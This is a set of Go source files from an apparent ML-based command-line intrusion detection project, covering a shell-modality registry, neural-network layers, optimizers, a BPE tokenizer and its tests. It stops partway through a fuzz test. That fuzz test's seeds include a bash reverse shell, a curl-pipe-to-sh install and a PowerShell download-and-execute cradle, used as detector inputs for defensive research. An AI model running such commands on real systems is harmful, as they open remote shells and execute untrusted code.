func Validate(name string) error {
	_, err := Get(name)
	return err
}

// FlagHelp renders the registered names for -modality flag usage strings,
// so every command lists the same (live) registry.
func FlagHelp() string {
	names := Names()
	out := ""
	for i, n := range names {
		if i > 0 {
			out += " | "
		}
		out += n
	}
	return out + " (default shell)"
}
