package modality

import (
	"fmt"
	"math/rand"

	"clmids/internal/shell"
)

func init() { Register(shellModality{}) }

// shellModality is the Unix-shell command-line modality — the paper's
// original workload, and the default for artifacts that predate modalities.
type shellModality struct{}

func (shellModality) Name() string { return Shell }

// Parse runs the recursive-descent shell parser and flattens the AST into
// the canonical line plus command units, exactly as the pre-registry
// preprocessing did: Occurrences counts every non-assignment invocation
// (pipelines contribute one unit per stage), Commands dedups them.
func (shellModality) Parse(line string) (Record, error) {
	ast, err := shell.Parse(line)
	if err != nil {
		return Record{}, fmt.Errorf("%w: %v", ErrUnparsable, err)
	}
	invs := ast.Invocations()
	occ := make([]string, 0, len(invs))
	for _, inv := range invs {
		if inv.Name == "" {
			continue
		}
		occ = append(occ, inv.Name)
	}
	return Record{Line: ast.String(), Commands: ast.CommandNames(), Occurrences: occ}, nil
}

func (shellModality) NewGen(rng *rand.Rand) Gen { return &shellGen{nm: newNaming(rng)} }

// shellGen adapts the moved corpus generator functions to the Gen interface;
// each method delegates in the exact order the pre-registry corpus generator
// called them, preserving the rand stream.
type shellGen struct{ nm *naming }

func (g *shellGen) Benign(r *rand.Rand) string  { return benignLine(r, g.nm) }
func (g *shellGen) Weird(r *rand.Rand) string   { return weirdBenignLine(r, g.nm) }
func (g *shellGen) Typo(r *rand.Rand) string    { return typoLine(r, g.nm) }
func (g *shellGen) Garbage(r *rand.Rand) string { return garbageLine(r) }
func (g *shellGen) Recon(r *rand.Rand) []string { return reconLines(r) }

func (g *shellGen) Attack(r *rand.Rand, outOfBox bool) Attack {
	v := pickAttack(r, outOfBox)
	return Attack{Family: v.family, InBox: v.inBox, Lines: v.gen(r, g.nm)}
}

func (g *shellGen) Families() []string { return ShellAttackFamilies() }
