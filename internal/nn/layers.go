// Package nn provides neural-network building blocks over the tensor
// autograd engine: parameterized layers, weight initializers, optimizers
// (SGD, AdamW), gradient clipping, and learning-rate schedules.
//
// Layers expose their parameters through the Params method so optimizers
// and serialization can enumerate them uniformly.
package nn

import (
	"fmt"
	"math"
	"math/rand"

	"clmids/internal/tensor"
)

// Layer is any module with trainable parameters.
type Layer interface {
	// Params returns the layer's parameter tensors. The slice and its order
	// are stable for the lifetime of the layer.
	Params() []*tensor.Tensor
}

// Linear is a fully connected layer: y = x·W + b.
type Linear struct {
	W *tensor.Tensor // [in, out]
	B *tensor.Tensor // [1, out]
}

// NewLinear creates a Linear layer initialized with init.
func NewLinear(in, out int, init Initializer, rng *rand.Rand) *Linear {
	w := tensor.NewMatrix(in, out)
	init.Init(w, in, out, rng)
	return &Linear{
		W: tensor.Var(w),
		B: tensor.Var(tensor.NewMatrix(1, out)),
	}
}

// Forward applies the layer to x [n, in] producing [n, out].
func (l *Linear) Forward(x *tensor.Tensor) *tensor.Tensor {
	return tensor.AddRowVec(tensor.MatMulT(x, l.W), l.B)
}

// Params implements Layer.
func (l *Linear) Params() []*tensor.Tensor { return []*tensor.Tensor{l.W, l.B} }

// In returns the input width.
func (l *Linear) In() int { return l.W.Val.Rows }

// Out returns the output width.
func (l *Linear) Out() int { return l.W.Val.Cols }

// LayerNorm holds the learned scale and shift of a layer-normalization.
type LayerNorm struct {
	Gamma *tensor.Tensor // [1, n]
	Beta  *tensor.Tensor // [1, n]
	Eps   float64
}

// NewLayerNorm creates a LayerNorm over width n with gamma=1, beta=0.
func NewLayerNorm(n int, eps float64) *LayerNorm {
	g := tensor.NewMatrix(1, n)
	g.Fill(1)
	return &LayerNorm{
		Gamma: tensor.Var(g),
		Beta:  tensor.Var(tensor.NewMatrix(1, n)),
		Eps:   eps,
	}
}

// Forward normalizes each row of x.
func (l *LayerNorm) Forward(x *tensor.Tensor) *tensor.Tensor {
	return tensor.LayerNorm(x, l.Gamma, l.Beta, l.Eps)
}

// Params implements Layer.
func (l *LayerNorm) Params() []*tensor.Tensor { return []*tensor.Tensor{l.Gamma, l.Beta} }

// Embedding is a lookup table mapping integer IDs to dense rows.
type Embedding struct {
	W *tensor.Tensor // [vocab, dim]
}

// NewEmbedding creates an embedding table initialized with init.
func NewEmbedding(vocab, dim int, init Initializer, rng *rand.Rand) *Embedding {
	w := tensor.NewMatrix(vocab, dim)
	init.Init(w, vocab, dim, rng)
	return &Embedding{W: tensor.Var(w)}
}

// Forward gathers the rows for ids.
func (e *Embedding) Forward(ids []int) *tensor.Tensor {
	return tensor.GatherRows(e.W, ids)
}

// Params implements Layer.
func (e *Embedding) Params() []*tensor.Tensor { return []*tensor.Tensor{e.W} }

// Vocab returns the table height.
func (e *Embedding) Vocab() int { return e.W.Val.Rows }

// Dim returns the embedding width.
func (e *Embedding) Dim() int { return e.W.Val.Cols }

// MLP is a two-layer perceptron with a configurable hidden activation —
// the classification head of §IV-B ("a two-layer perceptron initialized by
// Kaiming's method").
type MLP struct {
	L1, L2     *Linear
	Activation func(*tensor.Tensor) *tensor.Tensor
}

// NewMLP builds in -> hidden -> out with ReLU and Kaiming initialization,
// matching the paper's head configuration.
func NewMLP(in, hidden, out int, rng *rand.Rand) *MLP {
	return &MLP{
		L1:         NewLinear(in, hidden, KaimingNormal{}, rng),
		L2:         NewLinear(hidden, out, KaimingNormal{}, rng),
		Activation: tensor.ReLU,
	}
}

// Forward applies both layers.
func (m *MLP) Forward(x *tensor.Tensor) *tensor.Tensor {
	return m.L2.Forward(m.Activation(m.L1.Forward(x)))
}

// Params implements Layer.
func (m *MLP) Params() []*tensor.Tensor {
	return append(m.L1.Params(), m.L2.Params()...)
}

// Initializer fills a weight matrix before training.
type Initializer interface {
	// Init fills w in place. fanIn and fanOut describe the layer geometry.
	Init(w *tensor.Matrix, fanIn, fanOut int, rng *rand.Rand)
}

// KaimingNormal is He initialization: N(0, sqrt(2/fanIn)), designed for
// ReLU networks (the paper's classification head, §V).
type KaimingNormal struct{}

// Init implements Initializer.
func (KaimingNormal) Init(w *tensor.Matrix, fanIn, _ int, rng *rand.Rand) {
	std := math.Sqrt(2 / float64(fanIn))
	for i := range w.Data {
		w.Data[i] = rng.NormFloat64() * std
	}
}

// XavierUniform is Glorot initialization: U(-a, a), a = sqrt(6/(fanIn+fanOut)).
type XavierUniform struct{}

// Init implements Initializer.
func (XavierUniform) Init(w *tensor.Matrix, fanIn, fanOut int, rng *rand.Rand) {
	a := math.Sqrt(6 / float64(fanIn+fanOut))
	for i := range w.Data {
		w.Data[i] = (rng.Float64()*2 - 1) * a
	}
}

// TruncatedNormal is BERT-style initialization: N(0, std) resampled into
// [-2std, 2std].
type TruncatedNormal struct {
	Std float64
}

// Init implements Initializer.
func (tn TruncatedNormal) Init(w *tensor.Matrix, _, _ int, rng *rand.Rand) {
	std := tn.Std
	if std == 0 {
		std = 0.02
	}
	for i := range w.Data {
		for {
			v := rng.NormFloat64() * std
			if math.Abs(v) <= 2*std {
				w.Data[i] = v
				break
			}
		}
	}
}

// Zeros fills with zeros (bias-style init).
type Zeros struct{}

// Init implements Initializer.
func (Zeros) Init(w *tensor.Matrix, _, _ int, _ *rand.Rand) { w.Zero() }

// CountParams returns the total number of scalar parameters in layers.
func CountParams(layers ...Layer) int {
	n := 0
	for _, l := range layers {
		for _, p := range l.Params() {
			n += len(p.Val.Data)
		}
	}
	return n
}

// CollectParams flattens the parameters of several layers, preserving order.
func CollectParams(layers ...Layer) []*tensor.Tensor {
	var out []*tensor.Tensor
	for _, l := range layers {
		out = append(out, l.Params()...)
	}
	return out
}

// validateFinite returns an error if any parameter holds NaN or Inf; used by
// training loops to fail fast on divergence.
func validateFinite(params []*tensor.Tensor) error {
	for i, p := range params {
		for _, v := range p.Val.Data {
			if math.IsNaN(v) || math.IsInf(v, 0) {
				return fmt.Errorf("nn: parameter %d contains non-finite value", i)
			}
		}
	}
	return nil
}
