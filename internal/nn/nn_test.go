package nn

import (
	"math"
	"math/rand"
	"testing"

	"clmids/internal/tensor"
)

func TestLinearShapes(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	l := NewLinear(4, 3, XavierUniform{}, rng)
	x := tensor.Const(tensor.NewMatrix(5, 4))
	y := l.Forward(x)
	if y.Rows() != 5 || y.Cols() != 3 {
		t.Fatalf("output %dx%d, want 5x3", y.Rows(), y.Cols())
	}
	if l.In() != 4 || l.Out() != 3 {
		t.Errorf("In/Out = %d/%d", l.In(), l.Out())
	}
	if len(l.Params()) != 2 {
		t.Errorf("params = %d, want 2", len(l.Params()))
	}
}

func TestMLPLearnsXOR(t *testing.T) {
	// End-to-end sanity of layers + optimizer: a 2-layer MLP must fit XOR.
	rng := rand.New(rand.NewSource(7))
	mlp := NewMLP(2, 16, 2, rng)
	xs := tensor.FromSlice(4, 2, []float64{0, 0, 0, 1, 1, 0, 1, 1})
	labels := []int{0, 1, 1, 0}
	opt := NewAdamW(mlp.Params(), 0.01, 0)
	var loss float64
	for step := 0; step < 400; step++ {
		logits := mlp.Forward(tensor.Const(xs))
		l := tensor.CrossEntropy(logits, labels, -100)
		loss = l.Item()
		if err := l.Backward(); err != nil {
			t.Fatal(err)
		}
		opt.Step()
	}
	if loss > 0.05 {
		t.Fatalf("XOR did not converge: loss %.4f", loss)
	}
	logits := mlp.Forward(tensor.Const(xs))
	for i, want := range labels {
		row := logits.Val.Row(i)
		pred := 0
		if row[1] > row[0] {
			pred = 1
		}
		if pred != want {
			t.Errorf("sample %d predicted %d, want %d", i, pred, want)
		}
	}
}

func TestEmbedding(t *testing.T) {
	rng := rand.New(rand.NewSource(2))
	e := NewEmbedding(10, 4, TruncatedNormal{Std: 0.02}, rng)
	out := e.Forward([]int{1, 1, 9})
	if out.Rows() != 3 || out.Cols() != 4 {
		t.Fatalf("embedding out %dx%d", out.Rows(), out.Cols())
	}
	for j := 0; j < 4; j++ {
		if out.Val.At(0, j) != out.Val.At(1, j) {
			t.Fatal("same id must produce same row")
		}
	}
	if e.Vocab() != 10 || e.Dim() != 4 {
		t.Errorf("Vocab/Dim = %d/%d", e.Vocab(), e.Dim())
	}
}

func TestLayerNormLayer(t *testing.T) {
	ln := NewLayerNorm(8, 1e-5)
	rng := rand.New(rand.NewSource(3))
	x := tensor.NewMatrix(4, 8)
	for i := range x.Data {
		x.Data[i] = rng.NormFloat64()*3 + 7
	}
	y := ln.Forward(tensor.Const(x))
	for i := 0; i < 4; i++ {
		row := y.Val.Row(i)
		mean, sq := 0.0, 0.0
		for _, v := range row {
			mean += v
		}
		mean /= 8
		for _, v := range row {
			sq += (v - mean) * (v - mean)
		}
		sq /= 8
		if math.Abs(mean) > 1e-9 || math.Abs(sq-1) > 1e-3 {
			t.Fatalf("row %d: mean %.6f var %.6f", i, mean, sq)
		}
	}
}

func TestInitializerStatistics(t *testing.T) {
	rng := rand.New(rand.NewSource(4))
	w := tensor.NewMatrix(200, 100)

	KaimingNormal{}.Init(w, 200, 100, rng)
	std := matrixStd(w)
	want := math.Sqrt(2.0 / 200)
	if math.Abs(std-want)/want > 0.1 {
		t.Errorf("Kaiming std %.4f, want ~%.4f", std, want)
	}

	XavierUniform{}.Init(w, 200, 100, rng)
	a := math.Sqrt(6.0 / 300)
	for _, v := range w.Data {
		if v < -a || v > a {
			t.Fatalf("Xavier value %v outside ±%v", v, a)
		}
	}

	TruncatedNormal{Std: 0.02}.Init(w, 0, 0, rng)
	for _, v := range w.Data {
		if math.Abs(v) > 0.04 {
			t.Fatalf("TruncatedNormal value %v outside ±2std", v)
		}
	}

	Zeros{}.Init(w, 0, 0, nil)
	if w.Norm2() != 0 {
		t.Error("Zeros left nonzero values")
	}
}

func matrixStd(m *tensor.Matrix) float64 {
	mean := 0.0
	for _, v := range m.Data {
		mean += v
	}
	mean /= float64(len(m.Data))
	sq := 0.0
	for _, v := range m.Data {
		sq += (v - mean) * (v - mean)
	}
	return math.Sqrt(sq / float64(len(m.Data)))
}

func TestSGDQuadratic(t *testing.T) {
	// Minimize ||x - c||^2; SGD with momentum must reach c.
	target := []float64{3, -2, 0.5}
	x := tensor.Var(tensor.NewMatrix(1, 3))
	c := tensor.Const(tensor.FromSlice(1, 3, target))
	opt := NewSGD([]*tensor.Tensor{x}, 0.1, 0.9, 0)
	for i := 0; i < 200; i++ {
		d := tensor.Sub(x, c)
		loss := tensor.SumAll(tensor.Mul(d, d))
		if err := loss.Backward(); err != nil {
			t.Fatal(err)
		}
		opt.Step()
	}
	for i, want := range target {
		if math.Abs(x.Val.Data[i]-want) > 1e-4 {
			t.Fatalf("x[%d] = %v, want %v", i, x.Val.Data[i], want)
		}
	}
}

func TestAdamWWeightDecayExcludesBiases(t *testing.T) {
	w := tensor.Var(tensor.FromSlice(2, 2, []float64{1, 1, 1, 1}))
	b := tensor.Var(tensor.FromSlice(1, 2, []float64{1, 1}))
	// Zero gradients: with lr>0 only the decoupled decay acts, and it must
	// shrink the 2-row weight while leaving the 1-row bias alone.
	w.Grad = tensor.NewMatrix(2, 2)
	b.Grad = tensor.NewMatrix(1, 2)
	opt := NewAdamW([]*tensor.Tensor{w, b}, 0.5, 0.1)
	opt.Step()
	if w.Val.Data[0] >= 1 {
		t.Errorf("weight not decayed: %v", w.Val.Data[0])
	}
	if b.Val.Data[0] != 1 {
		t.Errorf("bias was decayed: %v", b.Val.Data[0])
	}
}

func TestClipGradNorm(t *testing.T) {
	p := tensor.Var(tensor.NewMatrix(1, 2))
	p.Grad = tensor.FromSlice(1, 2, []float64{3, 4}) // norm 5
	pre := ClipGradNorm([]*tensor.Tensor{p}, 1)
	if math.Abs(pre-5) > 1e-12 {
		t.Fatalf("pre-clip norm = %v, want 5", pre)
	}
	post := math.Hypot(p.Grad.Data[0], p.Grad.Data[1])
	if math.Abs(post-1) > 1e-12 {
		t.Fatalf("post-clip norm = %v, want 1", post)
	}
	// Below the threshold nothing changes.
	p.Grad = tensor.FromSlice(1, 2, []float64{0.3, 0.4})
	ClipGradNorm([]*tensor.Tensor{p}, 1)
	if math.Abs(p.Grad.Data[0]-0.3) > 1e-12 {
		t.Fatal("clip modified small gradient")
	}
}

func TestSchedules(t *testing.T) {
	wl := WarmupLinear{Peak: 1.0, Warmup: 10, Total: 110}
	if got := wl.At(0); math.Abs(got-0.1) > 1e-12 {
		t.Errorf("warmup start = %v", got)
	}
	if got := wl.At(9); math.Abs(got-1.0) > 1e-12 {
		t.Errorf("warmup end = %v", got)
	}
	if got := wl.At(110); got != 0 {
		t.Errorf("decay end = %v", got)
	}
	if got := wl.At(200); got != 0 {
		t.Errorf("past end = %v", got)
	}
	mid := wl.At(60)
	if mid <= 0 || mid >= 1 {
		t.Errorf("mid-decay = %v", mid)
	}

	wc := WarmupCosine{Peak: 2.0, Warmup: 5, Total: 105}
	if got := wc.At(4); math.Abs(got-2.0) > 1e-12 {
		t.Errorf("cosine warmup end = %v", got)
	}
	if got := wc.At(105); math.Abs(got) > 1e-9 {
		t.Errorf("cosine end = %v", got)
	}

	cs := ConstantSchedule{LRValue: 0.5}
	if cs.At(0) != 0.5 || cs.At(1e6) != 0.5 {
		t.Error("constant schedule not constant")
	}
}

func TestCountAndCollectParams(t *testing.T) {
	rng := rand.New(rand.NewSource(5))
	l1 := NewLinear(3, 4, XavierUniform{}, rng)
	ln := NewLayerNorm(4, 1e-5)
	if got := CountParams(l1, ln); got != 3*4+4+4+4 {
		t.Fatalf("CountParams = %d", got)
	}
	ps := CollectParams(l1, ln)
	if len(ps) != 4 {
		t.Fatalf("CollectParams = %d tensors", len(ps))
	}
}

func TestValidateFinite(t *testing.T) {
	p := tensor.Var(tensor.FromSlice(1, 2, []float64{1, 2}))
	if err := validateFinite([]*tensor.Tensor{p}); err != nil {
		t.Fatalf("finite params flagged: %v", err)
	}
	p.Val.Data[1] = math.NaN()
	if err := validateFinite([]*tensor.Tensor{p}); err == nil {
		t.Fatal("NaN not detected")
	}
}
