package nn

import (
	"math"

	"clmids/internal/tensor"
)

// Optimizer updates parameters from their accumulated gradients.
type Optimizer interface {
	// Step applies one update and clears the gradients.
	Step()
	// SetLR changes the learning rate (driven by a Schedule).
	SetLR(lr float64)
	// LR returns the current learning rate.
	LR() float64
}

// SGD is stochastic gradient descent with optional momentum and decoupled
// weight decay.
type SGD struct {
	params   []*tensor.Tensor
	lr       float64
	momentum float64
	decay    float64
	velocity []*tensor.Matrix
}

// NewSGD creates an SGD optimizer over params.
func NewSGD(params []*tensor.Tensor, lr, momentum, weightDecay float64) *SGD {
	s := &SGD{params: params, lr: lr, momentum: momentum, decay: weightDecay}
	if momentum != 0 {
		s.velocity = make([]*tensor.Matrix, len(params))
		for i, p := range params {
			s.velocity[i] = tensor.NewMatrix(p.Val.Rows, p.Val.Cols)
		}
	}
	return s
}

// Step implements Optimizer.
func (s *SGD) Step() {
	for i, p := range s.params {
		if p.Grad == nil {
			continue
		}
		if s.decay != 0 {
			p.Val.ScaleInPlace(1 - s.lr*s.decay)
		}
		if s.momentum != 0 {
			v := s.velocity[i]
			v.ScaleInPlace(s.momentum)
			v.AxpyInPlace(1, p.Grad)
			p.Val.AxpyInPlace(-s.lr, v)
		} else {
			p.Val.AxpyInPlace(-s.lr, p.Grad)
		}
		p.ZeroGrad()
	}
}

// SetLR implements Optimizer.
func (s *SGD) SetLR(lr float64) { s.lr = lr }

// LR implements Optimizer.
func (s *SGD) LR() float64 { return s.lr }

// AdamW is Adam with decoupled weight decay, the optimizer the paper uses
// for fine-tuning (lr 5e-5) and that we also use for pre-training.
type AdamW struct {
	params []*tensor.Tensor
	lr     float64
	beta1  float64
	beta2  float64
	eps    float64
	decay  float64

	step int
	m    []*tensor.Matrix
	v    []*tensor.Matrix
	// noDecay marks parameters excluded from weight decay (biases, norms).
	noDecay []bool
}

// NewAdamW creates an AdamW optimizer with the standard betas (0.9, 0.999).
func NewAdamW(params []*tensor.Tensor, lr, weightDecay float64) *AdamW {
	a := &AdamW{
		params:  params,
		lr:      lr,
		beta1:   0.9,
		beta2:   0.999,
		eps:     1e-8,
		decay:   weightDecay,
		m:       make([]*tensor.Matrix, len(params)),
		v:       make([]*tensor.Matrix, len(params)),
		noDecay: make([]bool, len(params)),
	}
	for i, p := range params {
		a.m[i] = tensor.NewMatrix(p.Val.Rows, p.Val.Cols)
		a.v[i] = tensor.NewMatrix(p.Val.Rows, p.Val.Cols)
		// Standard practice: 1-row parameters (biases, layer-norm scales)
		// are not decayed.
		a.noDecay[i] = p.Val.Rows == 1
	}
	return a
}

// Step implements Optimizer.
func (a *AdamW) Step() {
	a.step++
	bc1 := 1 - math.Pow(a.beta1, float64(a.step))
	bc2 := 1 - math.Pow(a.beta2, float64(a.step))
	for i, p := range a.params {
		if p.Grad == nil {
			continue
		}
		m, v := a.m[i], a.v[i]
		for j, g := range p.Grad.Data {
			m.Data[j] = a.beta1*m.Data[j] + (1-a.beta1)*g
			v.Data[j] = a.beta2*v.Data[j] + (1-a.beta2)*g*g
			mh := m.Data[j] / bc1
			vh := v.Data[j] / bc2
			upd := mh / (math.Sqrt(vh) + a.eps)
			if a.decay != 0 && !a.noDecay[i] {
				upd += a.decay * p.Val.Data[j]
			}
			p.Val.Data[j] -= a.lr * upd
		}
		p.ZeroGrad()
	}
}

// SetLR implements Optimizer.
func (a *AdamW) SetLR(lr float64) { a.lr = lr }

// LR implements Optimizer.
func (a *AdamW) LR() float64 { return a.lr }

// ClipGradNorm rescales all gradients so their global L2 norm is at most
// maxNorm; returns the pre-clip norm.
func ClipGradNorm(params []*tensor.Tensor, maxNorm float64) float64 {
	total := 0.0
	for _, p := range params {
		if p.Grad == nil {
			continue
		}
		for _, g := range p.Grad.Data {
			total += g * g
		}
	}
	norm := math.Sqrt(total)
	if norm > maxNorm && norm > 0 {
		scale := maxNorm / norm
		for _, p := range params {
			if p.Grad != nil {
				p.Grad.ScaleInPlace(scale)
			}
		}
	}
	return norm
}

// ZeroGrads clears all parameter gradients.
func ZeroGrads(params []*tensor.Tensor) {
	for _, p := range params {
		p.ZeroGrad()
	}
}

// Schedule maps a step index to a learning rate.
type Schedule interface {
	// At returns the learning rate for 0-based step.
	At(step int) float64
}

// ConstantSchedule always returns LR.
type ConstantSchedule struct{ LRValue float64 }

// At implements Schedule.
func (s ConstantSchedule) At(int) float64 { return s.LRValue }

// WarmupLinear ramps linearly from 0 to Peak over Warmup steps, then decays
// linearly to zero at Total steps — the standard BERT schedule.
type WarmupLinear struct {
	Peak   float64
	Warmup int
	Total  int
}

// At implements Schedule.
func (s WarmupLinear) At(step int) float64 {
	if s.Warmup > 0 && step < s.Warmup {
		return s.Peak * float64(step+1) / float64(s.Warmup)
	}
	if s.Total <= s.Warmup {
		return s.Peak
	}
	rem := float64(s.Total-step) / float64(s.Total-s.Warmup)
	if rem < 0 {
		rem = 0
	}
	return s.Peak * rem
}

// WarmupCosine ramps linearly then follows a half cosine down to zero.
type WarmupCosine struct {
	Peak   float64
	Warmup int
	Total  int
}

// At implements Schedule.
func (s WarmupCosine) At(step int) float64 {
	if s.Warmup > 0 && step < s.Warmup {
		return s.Peak * float64(step+1) / float64(s.Warmup)
	}
	if s.Total <= s.Warmup {
		return s.Peak
	}
	progress := float64(step-s.Warmup) / float64(s.Total-s.Warmup)
	if progress > 1 {
		progress = 1
	}
	return s.Peak * 0.5 * (1 + math.Cos(math.Pi*progress))
}
