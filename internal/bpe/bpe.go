// Package bpe implements a byte-level byte-pair-encoding tokenizer for shell
// command lines, as used in the paper's pre-training stage (§II-B).
//
// The tokenizer is trained on a corpus of command lines: it starts from the
// 256 single-byte symbols (so that any input can always be encoded without
// unknown tokens) and greedily learns merge rules for the most frequent
// adjacent pairs until the requested vocabulary size is reached. Words are
// pre-tokenized GPT-2 style: a word carries its preceding space, so decoding
// is plain concatenation and Encode/Decode round-trips exactly.
//
// Token IDs 0..4 are reserved for the special tokens [PAD], [UNK], [CLS],
// [SEP] and [MASK] used by the masked-language-model objective.
package bpe

import (
	"fmt"
	"strings"
	"sync"
	"sync/atomic"
)

// Reserved special-token IDs.
const (
	PadID  = 0
	UnkID  = 1
	ClsID  = 2
	SepID  = 3
	MaskID = 4

	// NumSpecials is the count of reserved IDs; byte symbols start here.
	NumSpecials = 5
	// baseVocab is the size of the seed vocabulary: specials + 256 bytes.
	baseVocab = NumSpecials + 256
)

// Special-token surface forms.
const (
	PadToken  = "[PAD]"
	UnkToken  = "[UNK]"
	ClsToken  = "[CLS]"
	SepToken  = "[SEP]"
	MaskToken = "[MASK]"
)

// pair is an adjacent symbol pair considered for merging.
type pair struct {
	a, b string
}

// Tokenizer encodes command lines into token-ID sequences and back.
// A Tokenizer is safe for concurrent use once trained or loaded.
type Tokenizer struct {
	// vocab maps token surface to ID; inv is the inverse.
	vocab map[string]int
	inv   []string
	// ranks maps each learned merge to its priority (lower merges first).
	ranks map[pair]int

	// Encode hot-path state, compiled by finalize (encode.go): the
	// integer-keyed merge table, the bounded LRU of encoded pre-tokens
	// (an atomic pointer so ResetEncodeCache is safe mid-serving), and
	// the pool of per-word merge-loop scratch arenas.
	merges     map[uint64]mergeVal
	wholeWords map[string]uint8
	twoGram    [1024]uint64
	maxTokLen  int
	cache      atomic.Pointer[wordCache]
	scratch    sync.Pool

	// est is the optional token-count estimator riding this tokenizer
	// (advisory only; see estimator.go).
	est atomic.Pointer[Estimator]
}

// newSeeded returns a tokenizer holding only specials and byte symbols.
func newSeeded() *Tokenizer {
	t := &Tokenizer{
		vocab: make(map[string]int, baseVocab),
		inv:   make([]string, 0, baseVocab),
		ranks: make(map[pair]int),
	}
	for _, s := range []string{PadToken, UnkToken, ClsToken, SepToken, MaskToken} {
		t.vocab[s] = len(t.inv)
		t.inv = append(t.inv, s)
	}
	for b := 0; b < 256; b++ {
		s := string([]byte{byte(b)})
		t.vocab[s] = len(t.inv)
		t.inv = append(t.inv, s)
	}
	t.finalize()
	return t
}

// VocabSize returns the number of tokens, including specials.
func (t *Tokenizer) VocabSize() int { return len(t.inv) }

// NumMerges returns the number of learned merge rules.
func (t *Tokenizer) NumMerges() int { return len(t.ranks) }

// Token returns the surface form of a token ID.
func (t *Tokenizer) Token(id int) string {
	if id < 0 || id >= len(t.inv) {
		return UnkToken
	}
	return t.inv[id]
}

// ID returns the token ID for a surface form, or UnkID when absent.
func (t *Tokenizer) ID(tok string) int {
	if id, ok := t.vocab[tok]; ok {
		return id
	}
	return UnkID
}

// Pretokenize splits a line into pre-tokens. Each maximal run of
// non-whitespace bytes becomes one pre-token; every pre-token after the
// first is prefixed with a single space, so concatenating pre-tokens
// reconstructs the whitespace-normalized line.
func Pretokenize(line string) []string {
	fields := strings.Fields(line)
	if len(fields) == 0 {
		return nil
	}
	out := make([]string, len(fields))
	out[0] = fields[0]
	for i := 1; i < len(fields); i++ {
		out[i] = " " + fields[i]
	}
	return out
}

// Encode converts a line into token IDs without special tokens. The
// returned slice is the caller's to mutate; it never aliases cache state.
func (t *Tokenizer) Encode(line string) []int {
	return t.EncodeInto(nil, line)
}

// EncodeInto appends line's token IDs to dst and returns the extended
// slice — the allocation-free form of Encode. When every pre-token is
// cached and dst has capacity, the call allocates nothing; cache misses pay
// one allocation for the cached entry. Safe for concurrent use.
func (t *Tokenizer) EncodeInto(dst []int, line string) []int {
	return t.appendEncoded(dst, line, -1)
}

// EncodeForModel converts a line into the model input form
// [CLS] tokens... [SEP], truncated to maxLen total tokens (the paper trims
// command lines that exceed the maximum sequence length). maxLen values
// below 2 are clamped to 2 (a bare [CLS][SEP] frame).
func (t *Tokenizer) EncodeForModel(line string, maxLen int) []int {
	if maxLen < 2 {
		maxLen = 2
	}
	// Token count never exceeds the line's byte count (every symbol holds at
	// least one byte; a word's leading space is a line byte too), so this
	// capacity makes the single allocation exact.
	capHint := len(line) + 2
	if capHint > maxLen {
		capHint = maxLen
	}
	return t.AppendForModel(make([]int, 0, capHint), line, maxLen)
}

// AppendForModel appends the model input form [CLS] tokens... [SEP] of line
// to dst, truncated to maxLen total tokens, and returns the extended slice
// — the allocation-free form of EncodeForModel for callers with a reusable
// buffer. maxLen values below 2 are clamped to 2.
func (t *Tokenizer) AppendForModel(dst []int, line string, maxLen int) []int {
	if maxLen < 2 {
		maxLen = 2
	}
	start := len(dst)
	dst = append(dst, ClsID)
	// Encoding stops as soon as the body is full; whole cached words may
	// overshoot by a few IDs, truncated right back below.
	dst = t.appendEncoded(dst, line, maxLen-2)
	if len(dst)-start > maxLen-1 {
		dst = dst[:start+maxLen-1]
	}
	return append(dst, SepID)
}

// ResetEncodeCache drops every cached pre-token encoding. Scoring results
// are unaffected (the cache is a pure memoization); the hook exists for
// memory pressure and for cold-path benchmarks.
func (t *Tokenizer) ResetEncodeCache() {
	t.cache.Store(newWordCache(wordCacheCap))
}

// Decode converts token IDs back to text. Special tokens are dropped.
func (t *Tokenizer) Decode(ids []int) string {
	var b strings.Builder
	for _, id := range ids {
		if id < NumSpecials || id >= len(t.inv) {
			continue
		}
		b.WriteString(t.inv[id])
	}
	return b.String()
}

// Tokens renders each ID as its surface form; useful for debugging and for
// the qualitative analyses in §V-C.
func (t *Tokenizer) Tokens(ids []int) []string {
	out := make([]string, len(ids))
	for i, id := range ids {
		out[i] = t.Token(id)
	}
	return out
}

// IsSpecial reports whether the ID is one of the reserved special tokens.
func IsSpecial(id int) bool { return id >= 0 && id < NumSpecials }

// validate checks internal consistency; used after loading.
func (t *Tokenizer) validate() error {
	if len(t.inv) < baseVocab {
		return fmt.Errorf("bpe: vocabulary too small: %d < %d", len(t.inv), baseVocab)
	}
	for i, s := range t.inv {
		if got, ok := t.vocab[s]; !ok || got != i {
			return fmt.Errorf("bpe: vocab/inv mismatch at id %d (%q)", i, s)
		}
	}
	for p := range t.ranks {
		if _, ok := t.vocab[p.a+p.b]; !ok {
			return fmt.Errorf("bpe: merge (%q,%q) has no merged token", p.a, p.b)
		}
	}
	return nil
}
