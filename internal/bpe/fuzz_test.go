package bpe

import (
	"strings"
	"sync"
	"testing"
)

// fuzzTok is built once: native fuzzing calls the fuzz function for every
// corpus entry and retraining per call would drown the fuzzer in setup.
var fuzzTok = sync.OnceValue(func() *Tokenizer {
	tok, err := Train(sampleCorpus, TrainConfig{VocabSize: 600, MinPairFreq: 2})
	if err != nil {
		panic(err)
	}
	return tok
})

// FuzzEncodeDecodeRoundTrip asserts the byte-level guarantee on arbitrary
// input: Encode never panics, never emits UNK or out-of-range IDs, and
// Decode reproduces the whitespace-normalized line exactly. Seeds cover the
// three log modalities plus the usual suspects (non-UTF-8 bytes, Unicode
// whitespace, very long words).
func FuzzEncodeDecodeRoundTrip(f *testing.F) {
	seeds := []string{
		// shell
		"ls -la /tmp",
		"bash -i >& /dev/tcp/1.2.3.4/4444 0>&1",
		"curl -fsSL https://get.example.com/install.sh | sh",
		// powershell
		`Get-ChildItem C:\Users\Public\Scripts -Force`,
		`IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.47/a.ps1')`,
		`Select-String -Pattern 'failed' -Path D:\Work\Deploy\deploy.log`,
		// network flows
		"2024-03-01T00:12:05Z 10.0.0.7:51532 -> 203.0.113.9:443 tcp 18 9140 est",
		"udp 10.1.2.3:53 192.0.2.77:31337 1 78",
		// edge shapes
		"",
		"   ",
		"\t\n\v\f\r",
		"\u00a0\u2003",
		string([]byte{0xff, 0xfe, 0x00, 'l', 's', 0x80}),
		strings.Repeat("a", 300),
		strings.Repeat("ab ", 100),
	}
	for _, s := range seeds {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, line string) {
		tok := fuzzTok()
		ids := tok.Encode(line)
		for _, id := range ids {
			if id == UnkID {
				t.Fatalf("Encode(%q) produced UNK", line)
			}
